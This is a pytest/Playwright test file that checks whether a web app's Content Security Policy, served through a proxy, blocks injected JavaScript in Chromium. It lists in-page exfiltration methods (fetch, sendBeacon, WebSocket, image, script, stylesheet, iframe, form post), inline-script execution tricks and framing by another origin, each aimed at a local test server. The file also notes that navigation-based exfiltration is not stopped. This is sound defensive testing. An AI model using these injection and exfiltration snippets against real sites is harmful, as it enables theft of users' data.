"""What the shipped policy stops in a real Chromium, and what no such policy stops.

Each attack is also tried at the server itself, without the proxy, where it has to succeed.
"""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from tests.deploy.elsewhere import Elsewhere, elsewhere
from tests.deploy.proxy import Proxy
from tests.deploy.watched import POLICY, Watched
from tests.said import said
from tools.served import Running

HEALTH = "/_stcore/health"
TAKEN = "/answers"
ADD = "const add = (tag, more) => document.body.appendChild("
ADD += "Object.assign(document.createElement(tag), more));"
SENDING = {
    "fetch": "fetch(address).catch(() => 0)",
    "beacon": "navigator.sendBeacon(address)",
    "line": "new WebSocket(address.replace('http', 'ws'))",
    "image": "new Image().src = address",
    "script": "add('script', {src: address})",
    "style": "add('link', {rel: 'stylesheet', href: address})",
    "frame": "add('iframe', {src: address})",
    "form": "add('form', {action: address, method: 'post'}).submit()",
}
RUNNING = {
    "script": "add('script', {text: 'window.ran = true'})",
    "attribute": "document.body.setAttribute('onclick', 'ran = true'); document.body.click()",
    "text": "setTimeout('window.ran = true')",
}
GOING = {"this page": "location = address", "another": "open(address)"}


@pytest.fixture
def other() -> Iterator[Elsewhere]:
    """Return another origin, which knows what reached it."""
    with elsewhere() as server:
        yield server


def attack(page: Page, code: str, address: str = "") -> None:
    """Run a line of somebody's code in the page."""
    page.evaluate(f"address => {{ {ADD} {code} }}", address)


@pytest.mark.parametrize("way", SENDING)
def test_a_page_cannot_send_in_the_background_or_by_a_form(
    front: Proxy, watched: Watched, other: Elsewhere, way: str
) -> None:
    watched.page.goto(f"{front.address}{HEALTH}")
    with watched.page.expect_console_message(lambda told: POLICY in told.text):
        attack(watched.page, SENDING[way], f"{other.address}{TAKEN}")
    # What had been sent would have arrived before this.
    watched.page.goto(f"{other.address}/after")
    assert TAKEN not in other.reached


@pytest.mark.parametrize("way", SENDING)
def test_without_the_policy_it_could(
    replicas: tuple[Running, Running], watched: Watched, other: Elsewhere, way: str
) -> None:
    watched.page.goto(f"{replicas[0].address}{HEALTH}")
    attack(watched.page, SENDING[way], f"{other.address}{TAKEN}")
    assert other.was_reached(TAKEN)


@pytest.mark.parametrize("way", RUNNING)
def test_no_code_runs_that_is_written_into_the_page(
    front: Proxy, watched: Watched, way: str
) -> None:
    watched.page.goto(f"{front.address}{HEALTH}")
    with watched.page.expect_console_message(lambda told: POLICY in told.text):
        attack(watched.page, RUNNING[way])
    assert watched.page.evaluate("() => window.ran") is None


@pytest.mark.parametrize("way", RUNNING)
def test_without_the_policy_it_would(
    replicas: tuple[Running, Running], watched: Watched, way: str
) -> None:
    watched.page.goto(f"{replicas[0].address}{HEALTH}")
    attack(watched.page, RUNNING[way])
    watched.page.wait_for_function("() => window.ran")


@pytest.mark.parametrize("way", GOING)
def test_the_policy_does_not_keep_a_page_from_going_elsewhere(
    front: Proxy, watched: Watched, other: Elsewhere, way: str
) -> None:
    # SECURITY.md says so: code that runs in the page could take answers along in an address.
    watched.page.goto(f"{front.address}{HEALTH}")
    attack(watched.page, GOING[way], f"{other.address}{TAKEN}")
    assert other.was_reached(TAKEN)


def test_another_origin_cannot_put_the_page_into_a_frame(
    front: Proxy, watched: Watched, other: Elsewhere
) -> None:
    with watched.page.expect_console_message(
        lambda told: POLICY in told.text and "frame-ancestors" in told.text
    ):
        watched.page.goto(f"{other.address}/?framed={front.address}")
    # Chromium has words of its own in the place of the page, or none.
    expect(watched.page.frame_locator("iframe").get_by_text("Backwise")).to_have_count(0)


def test_without_the_policy_another_origin_could(
    replicas: tuple[Running, Running], watched: Watched, other: Elsewhere
) -> None:
    watched.page.goto(f"{other.address}/?framed={replicas[0].address}")
    title = watched.page.frame_locator("iframe").get_by_role("heading", name=said("start-title"))
    expect(title).to_be_visible(timeout=30_000)
